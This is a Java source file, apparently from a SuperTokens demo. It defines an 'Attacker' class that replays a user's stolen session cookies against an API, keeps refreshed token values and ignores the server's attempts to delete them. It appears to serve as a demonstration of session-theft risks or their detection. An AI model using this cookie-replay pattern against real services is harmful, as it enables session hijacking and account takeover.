package io.supertokens.demo;

import jakarta.json.Json;
import jakarta.json.JsonReader;
import jakarta.json.JsonValue;
import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;

/** DEMO ONLY: an attacker with a copy of a user's cookies, who uses them as a browser would. */
final class Attacker {

    private static final Set<String> SESSION_COOKIES =
            Set.of("__Host-sAccessToken", "__Secure-sRefreshToken", "sIdRefreshToken");

    private final HttpClient http =
            HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
    private final URI api;
    private final Map<String, String> cookies = new TreeMap<>();

    Attacker(URI api, List<String> cookieHeaders) {
        this.api = api;
        for (String header : cookieHeaders) {
            for (String cookie : header.split(";", -1)) {
                keep(cookie);
            }
        }
    }

    /** The names of the cookies, never the values. */
    synchronized Set<String> loot() {
        return Set.copyOf(cookies.keySet());
    }

    synchronized Answer send(String method, String path) throws IOException, InterruptedException {
        HttpRequest request = HttpRequest.newBuilder(api.resolve(path))
                .header("Cookie", cookieHeader())
                .method(method, BodyPublishers.noBody())
                .build();
        HttpResponse<String> response = http.send(request, BodyHandlers.ofString());
        response.headers().allValues("Set-Cookie").forEach(line -> keep(line.split(";", 2)[0]));
        return new Answer(method, path, response.statusCode(), json(response.body()));
    }

    /** Keeps new values, and ignores requests to delete a cookie. */
    private void keep(String cookie) {
        String[] pair = cookie.strip().split("=", 2);
        if (pair.length == 2 && SESSION_COOKIES.contains(pair[0]) && !pair[1].isEmpty()) {
            cookies.put(pair[0], pair[1]);
        }
    }

    private String cookieHeader() {
        return String.join(
                "; ",
                cookies.entrySet().stream()
                        .map(cookie -> cookie.getKey() + "=" + cookie.getValue())
                        .toList());
    }

    private static JsonValue json(String body) {
        if (body.isBlank()) {
            return JsonValue.EMPTY_JSON_OBJECT;
        }
        try (JsonReader reader = Json.createReader(new StringReader(body))) {
            return reader.readValue();
        }
    }

    /** The application's response to the attacker. */
    public record Answer(String method, String path, int status, JsonValue body) {}
}
